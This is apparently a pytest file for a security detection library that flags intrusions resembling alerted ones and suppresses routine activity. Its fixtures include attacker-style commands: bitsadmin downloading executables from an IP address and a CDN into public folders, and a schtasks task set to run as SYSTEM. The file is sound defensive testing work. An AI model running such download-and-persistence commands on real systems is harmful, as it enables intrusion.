"""Unalerted intrusions are told from habits: they stand in no rule's way, and a person is told of them."""

from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from typing import Any

import polars as pl
import pytest

from longtail.detections.alike import MOST_DAYS, MOST_HOSTS, alike
from longtail.detections.generalise import Deed, clusters
from longtail.detections.legitimate import STARTS, fleet
from longtail.detections.mining import Mined, mined
from longtail.detections.report import report
from longtail.prevalence.findings import Severity

S32 = "C:\\Windows\\System32\\"
DAY = date(2026, 3, 4)
ATTACK = "bitsadmin /transfer n http://198.51.100.7/Svn.exe c:\\Users\\Public\\Svn.exe"
ELSEWHERE = "bitsadmin -transfer x https://cdn.example.net/q.exe C:\\ProgramData\\q.exe"


def start(number: int, line: str, image: str = S32 + "bitsadmin.exe", day: int = 0) -> dict[str, Any]:
    return {"tenant": f"t{number % 8}", "host": f"h{number}", "account": "CORP\\Ann", "account_class": "human",
            "day": DAY + timedelta(days=day), "image": image, "command_line": line,
            "parent_image": None, "parent_command_line": None, "runs": 1}  # fmt: skip


QUIET = [start(host, "svchost.exe -k a", S32 + "svchost.exe", day) for host in range(300) for day in range(3)]
DEED = Deed(DAY, "v", "attacked", "svc", "mssql", S32 + "bitsadmin.exe", ATTACK, S32 + "cmd.exe", "1",
            int(Severity.HIGH), datetime(2026, 3, 4, tzinfo=UTC))  # fmt: skip


def looks(*rows: dict[str, Any], deeds: tuple[Deed, ...] = (DEED,)) -> list[tuple[str, date]]:
    of_fleet = fleet(pl.DataFrame([*QUIET, *rows], schema=STARTS, orient="row"), deeds)
    found = alike(clusters(list(deeds), of_fleet.known | {"bitsadmin.exe", "schtasks.exe"}), of_fleet)
    return [(each.host, each.day) for each in found]


def mine(*rows: dict[str, Any]) -> Mined:
    alert = {"id": "1", "tenant": "v", "account": "svc", "account_class": "mssql", "host": "attacked",
             "severity": "high", "executions": [{"time": "2026-03-04T05:00:00Z", "image": DEED.image,
             "command_line": ATTACK, "parent_image": DEED.parent_image, "role": "anomaly"}]}  # fmt: skip
    lawful = [start(host, "bitsadmin /list") for host in range(20, 26)]
    return mined([alert], pl.DataFrame([*QUIET, *lawful, *rows], schema=STARTS, orient="row"))


def test_the_same_technique_elsewhere_is_found_and_does_not_forbid_its_rule() -> None:
    (alone,), (together,) = mine().rules, mine(start(7, ELSEWHERE)).rules
    assert together.logic.predicates == alone.logic.predicates
    found = mine(start(7, ELSEWHERE))
    assert [(each.tenant, each.host) for each in found.alike] == [("t7", "h7")]
    assert "Look here too" in report(found) and "cdn.example.net" in report(found) and "h7" in report(found)


@pytest.mark.parametrize(
    ("habit", "rows"),
    [
        ("of a host", [start(7, ELSEWHERE, day=day) for day in range(MOST_DAYS + 1)]),
        ("of the fleet", [start(host, ELSEWHERE) for host in range(MOST_HOSTS + 1)]),
    ],
)
def test_a_habit_is_lawful_however_it_looks(habit: str, rows: list[dict[str, Any]]) -> None:
    assert looks(*rows) == []
    assert not any(each.proof.whole.host_days for each in mine(*rows).rules)


def test_what_means_little_is_lawful_however_rare() -> None:
    assert looks(start(7, "bitsadmin /transfer n http://wsus/a.zip d:\\jobs\\a.zip")) == []


def test_things_that_mean_little_alone_mean_something_together() -> None:
    """No program at the end of the one; but a task of the system's beside it tips the scale."""
    task = "schtasks /create /tn {} /tr c:\\jobs\\a.cmd /ru SYSTEM"
    deeds = (DEED, replace(DEED, image=S32 + "schtasks.exe", command_line=task.format("u")))
    fetch = start(7, "bitsadmin /transfer n http://cdn.example.net/a c:\\Users\\Public\\a.dat")
    made = start(7, task.format("other"), S32 + "schtasks.exe")
    assert looks(fetch, deeds=deeds) == [] and looks(made, deeds=deeds) == []
    assert looks(fetch, made, deeds=deeds) == [("h7", DAY)]


def test_an_alerts_own_host_days_are_not_told_again() -> None:
    own = {**start(0, ATTACK), "tenant": "v", "host": "attacked"}
    assert looks(own) == []


def test_secrets_are_not_told() -> None:
    line = ELSEWHERE.replace("https://", "https://user:Hunter2isnotsecret@")
    assert "Hunter2" not in report(mine(start(7, line)))
